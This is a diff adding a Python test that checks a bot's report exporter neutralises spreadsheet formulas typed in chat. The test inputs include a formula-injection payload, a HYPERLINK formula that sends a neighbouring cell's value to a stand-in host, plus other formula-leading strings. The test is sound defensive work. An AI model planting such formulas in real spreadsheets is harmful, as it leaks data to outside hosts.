@@ -120,3 +120,18 @@ def test_an_unwritable_file_is_one_line(cli, tmp_path: Path) -> None:  # noqa: A
     code, _, err = cli("report", "--month", "2026-10", "--csv", str(target))
     assert code == 2 and err.startswith(f"fieldbot: error: cannot write {target}: ") and err.count("\n") == 1
     assert not target.exists()
+
+
+def test_text_from_chat_never_becomes_a_formula_in_the_exports(tmp_path: Path) -> None:
+    from openpyxl import Workbook
+
+    from bot.cli_report import _cell, _safe
+
+    typed = ['=HYPERLINK("http://x/?"&B2,"open")', "+1", "-2", "@SUM(A1)"]
+    assert [_safe(v) for v in typed] == ["'" + v for v in typed]
+    assert (_safe("X200"), _safe(3), _cell(None)) == ("X200", 3, "")
+    book = Workbook()
+    book.active.append([_safe(v) for v in typed])
+    book.save(tmp_path / "t.xlsx")
+    cells = list(load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=False))[0]
+    assert [c.data_type for c in cells] == ["s"] * 4  # without _safe the first would be "f"
